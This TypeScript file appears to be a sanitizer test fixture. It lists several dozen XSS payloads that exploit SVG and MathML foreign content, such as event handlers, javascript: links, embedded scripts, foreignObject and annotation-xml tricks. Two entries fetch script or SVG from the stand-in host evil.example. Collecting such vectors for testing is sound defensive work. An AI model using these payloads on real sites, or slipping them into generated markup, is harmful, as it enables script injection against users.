/** SVG and MathML: elements of other rules within HTML. */
export const FOREIGN_CONTENT: Readonly<Record<string, string>> = {
  'a drawing that loads': '<svg onload=alert(1)>',
  'a drawing that loads, without spaces': '<svg/onload=alert(1)>',
  'a drawing in a drawing': '<svg><svg onload=alert(1)></svg></svg>',
  'a drawing with a script': '<svg><script>alert(1)</script></svg>',
  'a drawing with a script in references': '<svg><script>&#97;lert&#40;1&#41;</script></svg>',
  'a drawing with a script in a CDATA section': '<svg><script><![CDATA[alert(1)]]></script></svg>',
  'a drawing with a script from elsewhere': '<svg><script href="https://evil.example/x.js"></script></svg>',
  'a drawing with a script of data': '<svg><script xlink:href="data:,alert(1)"></script></svg>',
  'a drawing with a link': '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  'a drawing with a plain link': '<svg><a href="javascript:alert(1)"><rect width=9 height=9 /></a></svg>',
  'a drawing with a link that is animated':
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>',
  'a drawing with a link that is set':
    '<svg><a><set attributeName=href to="javascript:alert(1)"/><text y=20>x</text></a></svg>',
  'a drawing with an animation at its begin': '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  'a drawing with an animation at its end': '<svg><animate onend=alert(1) attributeName=x dur=1ms>',
  'a drawing with a setting at its begin': '<svg><set onbegin=alert(1) attributeName=x />',
  'a drawing with a motion': '<svg><animateMotion onbegin=alert(1) dur=1s /><circle r=1 /></svg>',
  'a drawing with a transformation':
    '<svg><animateTransform onbegin=alert(1) attributeName=transform dur=1s /></svg>',
  'a drawing of another drawing':
    '<svg><use href="data:image/svg+xml,<svg id=%27x%27 xmlns=%27http://www.w3.org/2000/svg%27><script>alert(1)</script></svg>#x"/></svg>',
  'a drawing of what is elsewhere':
    '<svg><use href="https://evil.example/x.svg#x"/><image href="x" onerror=alert(1) /></svg>',
  'a drawing with a picture that fails': '<svg><image xlink:href=x onerror=alert(1) /></svg>',
  'a drawing with HTML': '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  'a drawing with a frame':
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  'a drawing with a style': '<svg><style><img src=x onerror=alert(1)></style></svg>',
  'a drawing with a description': '<svg><desc><img src=x onerror=alert(1)></desc></svg>',
  'a drawing with a title': '<svg><title><img src=x onerror=alert(1)></title></svg>',
  'a drawing with a handler of the pointer':
    '<svg><rect width=99 height=99 onclick=alert(1) onmousemove=alert(1) /></svg>',
  'a drawing with a handler element':
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
  'a drawing that has the focus':
    '<svg><a id=x tabindex=1 focusable=true onfocus=alert(1) autofocus><text y=9>x</text></a></svg>',
  'a drawing with a discarded element': '<svg><discard onbegin=alert(1) /></svg>',
  'a formula with a link': '<math><mi href="javascript:alert(1)">x</mi></math>',
  'a formula with a link of XLink':
    '<math><maction actiontype=statusline xlink:href="javascript:alert(1)">x</maction></math>',
  'a formula with a handler': '<math><mi onclick=alert(1) tabindex=1>x</mi></math>',
  'a formula with its notation':
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  'a formula with a drawing':
    '<math><annotation-xml><svg><script>alert(1)</script></svg></annotation-xml></math>',
  'a formula with text': '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  'a prefix of one’s own':
    '<html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>alert(1)</x:script></html>',
  'a stylesheet of XML':
    '<?xml-stylesheet href="javascript:alert(1)"?><x xmlns="http://www.w3.org/1999/XSL/Transform">y</x>',
};
